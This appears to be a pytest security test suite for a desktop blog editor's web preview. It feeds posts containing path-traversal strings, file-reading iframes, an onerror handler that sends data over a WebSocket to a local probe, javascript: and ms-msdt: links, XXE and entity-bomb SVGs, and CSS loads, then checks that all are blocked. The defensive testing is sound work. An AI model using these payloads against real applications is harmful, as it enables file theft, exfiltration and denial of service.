"""V1–V11: a hostile post in the real window, from the text through the render process into the page."""

from __future__ import annotations

import logging
import os
import signal
import sys
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from PIL import Image
from PySide6.QtCore import QObject, QUrl
from PySide6.QtGui import QDesktopServices
from PySide6.QtWidgets import QApplication, QPushButton
from pytestqt.qtbot import QtBot

from editor.ui.app import open_window
from editor.ui.outward import Outward
from editor.ui.postpage import PostPage
from editor.ui.preview import preview as preview_module
from editor.ui.preview.fetching import RemotePictures, may_reach
from editor.ui.window import Window
from tests.support.previewdesk import END, Desk, watch
from tests.support.previewlab import CLICKS, TYPED
from tests.support.probes import CANARY, Visitors, visitors


@pytest.fixture
def site(site: Path) -> Path:
    """The site with a picture, and beside it files that are not the site's."""
    (site / "content" / "img").mkdir()
    Image.new("RGB", (3, 3), "red").save(site / "content" / "img" / "kim.png")
    Image.new("RGB", (7, 7), "blue").save(site.parent / "secret.png")
    (site.parent / "secret.txt").write_text(CANARY, "utf-8")
    return site


@pytest.fixture
def visited() -> Iterator[Visitors]:
    with visitors() as seen:
        yield seen


@pytest.fixture
def opened(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """What the system was asked to open."""
    addresses: list[str] = []

    def note(url: QUrl) -> bool:
        addresses.append(url.toString(QUrl.ComponentFormattingOption.FullyEncoded))
        return True

    monkeypatch.setattr(QDesktopServices, "openUrl", note)
    return addresses


@pytest.fixture
def window(site: Path, qtbot: QtBot) -> Iterator[Window]:
    """The window as it is started, with the web engine."""
    window = open_window(site)
    with qtbot.waitSignal(window.desk.learnt, timeout=20_000):
        pass
    yield window
    window.posts.drop_all()
    qtbot.waitUntil(lambda: not window.desk.scan_running(), timeout=20_000)
    with qtbot.waitSignal(window.closed, timeout=20_000):
        window.close()
    window.deleteLater()


@pytest.fixture
def desk(window: Window, qtbot: QtBot, open_post: Callable[[Path], PostPage]) -> Desk:
    return Desk(window, qtbot, open_post)


@pytest.fixture
def post(site: Path) -> Path:
    return site / "content" / "posts" / "вест.md"


@pytest.mark.parametrize(("flavour", "generator"), [("gfm", "gatsby"), ("python-markdown", "jekyll")])
def test_V1_nothing_of_the_probe_page_gets_out(
    desk: Desk, post: Path, visited: Visitors, opened: list[str], flavour: str, generator: str
) -> None:
    desk.window.previewing.set_flavour(flavour, generator)
    windows = [each for each in QApplication.topLevelWidgets() if each.isVisible()]
    desk.write(post, visited.probe(post.parents[3] / "secret.txt"))
    watch(desk)
    for name in CLICKS:
        desk.click(f"#{name}")
    desk.type(TYPED)
    desk.settled()
    desk.harmless()
    assert visited.asked == []
    assert visited.connected == []
    assert opened == []
    assert [each for each in QApplication.topLevelWidgets() if each.isVisible()] == windows
    assert CANARY not in desk.ask("document.documentElement.outerHTML")
    assert "styled" in desk.ask("document.body.innerText")


def test_V2_files_outside_the_site_are_not_shown(desk: Desk, post: Path, site: Path) -> None:
    outside = site.parent / "secret.png"
    if sys.platform != "win32":
        (site / "content" / "img" / "link.png").symlink_to(outside)
    references = (
        *(outside.as_uri(), str(outside), "../../../secret.png", "..%2f..%2f..%2fsecret.png", "../img/link.png"),
        *("%2e%2e/%2e%2e/%2e%2e/secret.png", "..%252f..%252f..%252fsecret.png", "/../secret.png", "//./secret.png"),
        *("../img/../../../secret.png", "../img/kim.png/../../../../secret.png", "/etc/hostname", "../img/kim.png%00"),
    )
    desk.write(post, "\n\n".join(f'<img src="{each}" class="away">' for each in references))
    desk.wait_for(f"document.querySelectorAll('.byline-missing').length >= {len(references) - 1}")
    assert desk.ask("[...document.images].every((each) => [0, 3].includes(each.naturalWidth))")
    direct = ("/../secret.png", "/..%2fsecret.png", "/%2e%2e/secret.png", "/content/../../secret.txt", "/secret.txt")
    asked = f"/image?post=content/posts/a.md&src={outside.as_uri()}"
    addresses = [*direct, asked, "/remote?post=content/posts/a.md&src=http://127.0.0.1/", outside.as_uri()]
    desk.ask(
        f"globalThis.tried = {addresses!r}.map((address) => {{ const made = new Image(); made.src = address;"
        " made.onerror = () => { made.failed = true }; return made }); 1"
    )
    desk.wait_for("tried.every((made) => made.failed)")


def test_V3_no_frame_reads_a_file_and_nothing_is_sent(desk: Desk, post: Path, site: Path, visited: Visitors) -> None:
    secret = (site.parent / "secret.txt").as_uri()
    frame = f'<iframe id="ff" src="{secret}"></iframe><iframe src="file:///etc/hostname"></iframe>'
    send = f"new WebSocket('{visited.base.replace('http', 'ws')}/' + document.querySelector('#ff')?.contentDocument)"
    desk.write(post, f'{frame}<img src="nope" onerror="{send}">')
    desk.patch(f'<p>{frame}<img src="nope" onerror="{send}"></p>')
    desk.type("later")
    shown: list[object] = []
    frames = desk.page.mainFrame().children()
    for each in frames:
        each.runJavaScript("document.body ? document.body.innerText : ''", shown.append)
    desk.qtbot.waitUntil(lambda: len(shown) == len(frames), timeout=10_000)
    assert not any(CANARY in str(text) for text in shown)
    assert visited.asked == visited.connected == []


@pytest.mark.parametrize(
    "target", ["@/leave", "file:///etc/hostname", "javascript:document.title='RAN'", "byline-site://site/preview.css"]
)
def test_V4_the_page_stays_whatever_asks_it_to_refresh(
    desk: Desk, post: Path, visited: Visitors, caplog: pytest.LogCaptureFixture, target: str
) -> None:
    refresh = f'<meta http-equiv="refresh" content="0;url={target.replace("@", visited.base)}">'
    desk.write(post, f"<div>\n{refresh}\n</div>\n\n{refresh}")
    assert desk.ask("document.querySelectorAll('meta[http-equiv]').length") == 0
    if target.startswith(("javascript", "file")):
        desk.patch(refresh)  # The engine refuses these by itself, without asking.
    else:
        with caplog.at_level(logging.DEBUG, "editor.ui.preview.page"):
            desk.patch(refresh)
            desk.qtbot.waitUntil(lambda: "not left for" in caplog.text, timeout=10_000)
    desk.type("later")
    desk.harmless()
    assert visited.asked == []


@pytest.mark.parametrize(
    "address", ["javascript:document.title='RAN'", "data:text/html,<script>1</script>", "vbscript:msgbox(1)"]
)
def test_V5_a_link_that_would_run_does_nothing_and_says_so(
    desk: Desk, post: Path, opened: list[str], address: str
) -> None:
    desk.write(post, f'<a class="cleaned" href="{address}">x</a>')
    desk.click(".cleaned")
    desk.qtbot.waitUntil(lambda: "leads nowhere" in desk.window.toast.text(), timeout=10_000)
    desk.patch(f'<p><a class="raw" href="{address}">x</a></p>'.replace("'", "&#39;"))
    desk.click(".raw")
    desk.qtbot.waitUntil(lambda: "run a program" in desk.window.toast.text(), timeout=10_000)
    desk.harmless()
    assert opened == []
    assert desk.aside("preview.link").text() == ""


def test_V6_a_link_opens_after_its_address_was_shown(desk: Desk, post: Path, opened: list[str]) -> None:
    desk.write(post, "[x](https://мк.example/избори?а=1) <mailto:ana@example.org>\n\n[y](https://gооgle.example/)")
    aside = desk.aside("preview.link")
    desk.click("a[href*=xn--], a[href*='мк.example'], a[href*='example/']")
    desk.qtbot.waitUntil(lambda: "https://мк.example/избори?а=1" in aside.text(), timeout=10_000)
    assert opened == []
    desk.press("preview.link.open")
    assert opened == ["https://xn--j1ad.example/%D0%B8%D0%B7%D0%B1%D0%BE%D1%80%D0%B8?%D0%B0=1"]
    assert aside.text() == ""
    desk.click("p:has(+ .last) a, a[href*='gоо'], a[href*='xn--ggle']")
    desk.qtbot.waitUntil(lambda: "https://xn--ggle-55da.example/" in aside.text(), timeout=10_000)
    assert "look like others" in aside.text()
    desk.click("a[href^=mailto]")
    desk.qtbot.waitUntil(lambda: "ana@example.org" in aside.text(), timeout=10_000)
    desk.press("preview.link.copy")
    assert len(opened) == 1
    assert QApplication.clipboard().text() == "mailto:ana@example.org"
    desk.harmless()


@pytest.mark.parametrize(
    "address",
    [
        *("file:///etc/hostname", "smb://server/share", "ms-msdt:/id", "x-man-page://ls", "\\\\server\\share\\a.lnk"),
        *("file:///tmp/a.desktop", "C:\\a.exe", "a.exe", "../a.command", "/a.lnk", "ftp://example.org/", "tel:1"),
    ],
)
def test_V6_files_and_programs_are_never_opened(desk: Desk, post: Path, opened: list[str], address: str) -> None:
    desk.write(post, f'<a class="cleaned" href="{address}">x</a>')
    desk.click(".cleaned")
    desk.qtbot.waitUntil(lambda: desk.window.toast.text().startswith("This link leads"), timeout=10_000)
    desk.window.toast.hide()
    desk.patch(f'<p><a class="raw" href="{address}">x</a></p>')
    desk.click(".raw")
    desk.qtbot.waitUntil(lambda: desk.window.toast.text().startswith("This link leads"), timeout=10_000)
    assert opened == []
    assert desk.aside("preview.link").text() == ""
    desk.harmless()


def test_V7_what_is_typed_or_comes_from_another_program_does_not_run(desk: Desk, post: Path) -> None:
    desk.write(post, "text")
    desk.type(TYPED)
    desk.wait_for("document.body.innerText.includes('typed')")
    desk.harmless()
    assert desk.window.posts.front is not None
    desk.window.saving.save(desk.window.posts.front)
    desk.qtbot.waitUntil(lambda: "typed" in post.read_text("utf-8"), timeout=10_000)
    post.write_text(post.read_text("utf-8").replace("text", TYPED.replace("typed", "merged")), "utf-8")
    desk.wait_for("document.body.innerText.includes('merged')")
    desk.patch(TYPED.replace("typed", "raw"))
    desk.wait_for("document.body.innerText.includes('raw')")
    desk.harmless()


def test_V8_nothing_takes_the_keys_the_screen_or_the_ears(desk: Desk, post: Path, visited: Visitors) -> None:
    asking = (
        '<form><input autofocus id="greedy"><textarea autofocus></textarea></form><select autofocus></select>'
        f'<video autoplay src="{visited.base}/v"></video><audio autoplay src="{visited.base}/a"></audio>'
        "<img src='nope' onerror='document.documentElement.requestFullscreen();"
        " navigator.geolocation.getCurrentPosition(() => 0); navigator.clipboard.readText();"
        " Notification.requestPermission()'>"
    )
    QApplication.clipboard().setText(CANARY)
    desk.write(post, asking)
    watch(desk)
    assert desk.window.posts.front is not None
    view = desk.window.posts.front.view
    view.setFocus()
    had = QApplication.focusWidget()
    desk.patch(f"<div>{asking}</div>".replace("'", "&#39;"))
    desk.type("later")
    assert QApplication.focusWidget() is had
    assert desk.asked_for == []
    assert visited.asked == []
    assert desk.ask("[...document.querySelectorAll('video, audio')].every((each) => each.paused)")
    assert desk.ask("document.fullscreenElement === null && document.title === 'Byline'")


def test_V9_a_style_of_a_post_covers_nothing_and_loads_nothing(desk: Desk, post: Path, visited: Visitors) -> None:
    cover = "position: fixed; inset: 0; z-index: 9999"
    style = f'<style>@import url("{visited.base}/css"); * {{ background: url("{visited.base}/b"); {cover} }}</style>'
    desk.write(post, f'{style}\n\n<p id="cover" style="{cover}; background: url({visited.base}/c)">x</p>')
    assert desk.ask("getComputedStyle(document.getElementById('cover')).position") == "static"
    assert desk.ask("document.querySelectorAll('style').length") == 0
    desk.patch(f'<div>{style}<p id="raw" style="{cover}; background: url({visited.base}/c)">x</p></div>')
    desk.type("later")
    assert visited.asked == []


@pytest.mark.timeout(120)
def test_V9_a_selector_of_a_million_elements_holds_nothing_up(desk: Desk, post: Path) -> None:
    style = f"<style>{'* ' * 1_000_000}{{ color: red }}</style>"
    deep = "<b>" * 200 + "x" + "</b>" * 200
    desk.write(post, f"{style}\n\n{deep}\n")
    assert desk.ask("document.querySelectorAll('style').length") == 0
    desk.patch(f"<div>{style}{deep}</div>")
    desk.type("later")
    desk.wait_for("document.body.innerText.includes('later')")
    assert desk.ask("getComputedStyle(document.querySelector('b')).color") != "rgb(255, 0, 0)"


def test_V9_a_dead_page_says_so_and_comes_back(desk: Desk, post: Path) -> None:
    desk.write(post, "text")
    os.kill(desk.page.renderProcessPid(), signal.SIGKILL if sys.platform != "win32" else signal.SIGTERM)
    again = desk.window.preview.findChild(QPushButton, "preview.again")
    assert again is not None
    desk.qtbot.waitUntil(again.isVisible, timeout=10_000)
    again.click()
    desk.qtbot.waitUntil(desk.window.preview.is_ready, timeout=20_000)
    desk.settled()
    desk.type("later")
    desk.wait_for("document.body.innerText.includes('later')")


def test_V9_a_page_that_is_stuck_says_so_and_comes_back(
    desk: Desk, post: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    desk.write(post, "text")
    desk.window.preview._stuck.setInterval(1000)
    desk.page.tell("while (true) {}")
    assert desk.window.posts.front is not None
    desk.window.posts.front.view.insertPlainText("more ")
    again = desk.window.preview.findChild(QPushButton, "preview.again")
    assert again is not None
    desk.qtbot.waitUntil(again.isVisible, timeout=20_000)
    desk.window.preview._stuck.setInterval(preview_module.STUCK_MS)
    again.click()
    desk.qtbot.waitUntil(desk.window.preview.is_ready, timeout=20_000)
    desk.settled()


@pytest.mark.timeout(120)
def test_V10_three_megabytes_of_cyrillic_are_shown(desk: Desk, post: Path) -> None:
    desk.write(post, "\n\n".join(f"избори {number} " + "путин " * 50 for number in range(5400)))
    assert post.stat().st_size > 3_000_000
    assert desk.ask("document.querySelectorAll('#byline-text > p').length") >= 5400


@pytest.fixture
def allowing(window: Window) -> None:
    """Let one name lead to this machine, as if it were on the web."""
    outward = window.findChild(Outward)
    assert outward is not None

    def make(parent: QObject) -> RemotePictures:
        def answer(name: str, hear: Callable[[list[str]], None]) -> None:
            hear(["127.0.0.1"] if name == "news.example" else [])

        return RemotePictures(parent, answer, lambda address, port: address == "127.0.0.1" or may_reach(address, port))

    outward.remote.fetching = make


def test_V11_pictures_on_other_servers_come_when_they_are_allowed_and_only_then(
    desk: Desk, post: Path, site: Path, visited: Visitors, allowing: None
) -> None:
    base = visited.base.replace("127.0.0.1", "news.example")
    inside = visited.base.replace("127.0.0.1", "127.0.0.2") + "/c.png"
    pictures = f"![a]({base}/a.png) text\n\n<img src='{base}/b.png' width='40'>\n\n<p><img src='{inside}'></p>"
    desk.write(post, pictures)
    aside = desk.aside("preview.remote")
    desk.qtbot.waitUntil(lambda: "3 pictures are on other servers and are not loaded" in aside.text(), timeout=10_000)
    assert visited.asked == []
    desk.press("preview.remote.post")
    desk.wait_for("[...document.images].filter((each) => each.naturalWidth === 1).length === 2")
    assert aside.text() == ""
    # The third is in the reader's own network.
    desk.wait_for("document.querySelectorAll('.byline-missing').length === 1")
    assert sorted(visited.asked) == ["/a.png", "/b.png"]
    for heard in visited.headers:
        assert not {"cookie", "referer", "origin"} & {name.lower() for name in heard}
    count = len(visited.asked)
    desk.type("more")
    desk.change(") text", ") other text")
    desk.wait_for("document.body.innerText.includes('other text')")
    assert desk.ask("[...document.images].filter((each) => each.naturalWidth === 1).length") == 2
    assert len(visited.asked) == count
    other = post.with_name("друга.md")
    desk.write(other, f"![d]({base}/d.png)")
    desk.qtbot.waitUntil(lambda: "not loaded" in aside.text(), timeout=10_000)
    assert len(visited.asked) == count
    desk.press("preview.remote.site")
    desk.wait_for("[...document.images].filter((each) => each.naturalWidth === 1).length === 1")
    assert desk.window.session.settings.site(site).remote_images
    action = desk.window.actions_by_name["remotePictures"]
    assert action.isChecked()
    action.trigger()
    desk.wait_for("document.querySelectorAll('.byline-remote').length === 1")
    assert not desk.window.session.settings.site(site).remote_images


def test_V11_what_is_waved_away_stays_away_until_there_is_more(desk: Desk, post: Path, visited: Visitors) -> None:
    desk.write(post, f"![a]({visited.base}/a.png)")
    aside = desk.aside("preview.remote")
    desk.qtbot.waitUntil(lambda: "not loaded" in aside.text(), timeout=10_000)
    aside._wave()
    desk.type("more")
    assert aside.text() == ""
    desk.type(f"![b]({visited.base}/b.png)")
    desk.qtbot.waitUntil(lambda: "2 pictures" in aside.text(), timeout=10_000)
    assert visited.asked == []


def test_V11_the_featured_picture_counts_too(desk: Desk, post: Path, visited: Visitors, allowing: None) -> None:
    address = visited.base.replace("127.0.0.1", "news.example") + "/front.png"
    post.write_text(f"---\ntitle: Вест\nimage: {address}\n---\n\ntext{END}", "utf-8")
    desk.open(post)
    aside = desk.aside("preview.remote")
    desk.qtbot.waitUntil(lambda: "One picture" in aside.text(), timeout=10_000)
    assert visited.asked == []
    desk.press("preview.remote.post")
    desk.wait_for("document.querySelector('#byline-header img')?.naturalWidth === 1")
    assert visited.asked == ["/front.png"]


def test_V6_a_long_link_neither_widens_the_window_nor_hides_its_server(desk: Desk, post: Path) -> None:
    server = "bank.example." + ".".join(["a" * 60] * 3) + ".evil.example"
    desk.write(post, f"[x](https://{server}/{'b' * 5000})")
    width = desk.window.preview.width()
    desk.click("a")
    aside = desk.aside("preview.link")
    desk.qtbot.waitUntil(lambda: server in aside.text(), timeout=10_000)
    desk.qtbot.waitUntil(lambda: aside.height() > 0, timeout=5000)
    assert len(aside.text()) < 600
    assert desk.window.preview.width() == width
    assert aside.minimumSizeHint().width() <= width


BOMB = (
    '<!DOCTYPE svg [<!ENTITY a "'
    + "x" * 1000
    + '">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(8))
    + "]>"
)


def test_I3_a_picture_of_the_site_is_shown_as_a_picture_only(
    desk: Desk, post: Path, site: Path, visited: Visitors
) -> None:
    start = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="11" height="11"'
    away = f"{visited.base}/svg"
    html = 'xmlns="http://www.w3.org/1999/xhtml"'
    system = f'<!DOCTYPE svg [<!ENTITY x SYSTEM "{(site.parent / "secret.txt").as_uri()}">]>'
    files = {
        "script": f"{start} onload=\"top.document.title=1; fetch('{away}')\"><script>top.x=1</script></svg>",
        "outside": f'{start}><image href="{away}" width="9" height="9"/><use xlink:href="{away}#a"/>'
        f'<style>@import url("{away}"); * {{ fill: url("{away}") }}</style>'
        f'<foreignObject width="9" height="9"><iframe {html} src="{away}"/></foreignObject></svg>',
        "entity": f"{system}{start}><text>&x;</text></svg>",
        "bomb": f"{BOMB}{start}><text>&i;</text></svg>",
        "good": f'{start}><rect width="11" height="11"/></svg>',
    }
    for name, text in files.items():
        (site / "content" / "img" / f"{name}.svg").write_text(text, "utf-8")
    desk.write(post, "\n\n".join(f"![{name}](../img/{name}.svg)" for name in files) + f"\n\n{files['outside']}")
    desk.wait_for("[...document.images].filter((each) => each.naturalWidth === 11).length >= 3")
    desk.type("later")
    desk.wait_for("document.body.innerText.includes('later')")
    desk.harmless()
    assert desk.ask("document.querySelectorAll('svg').length") == 0
    assert visited.asked == []
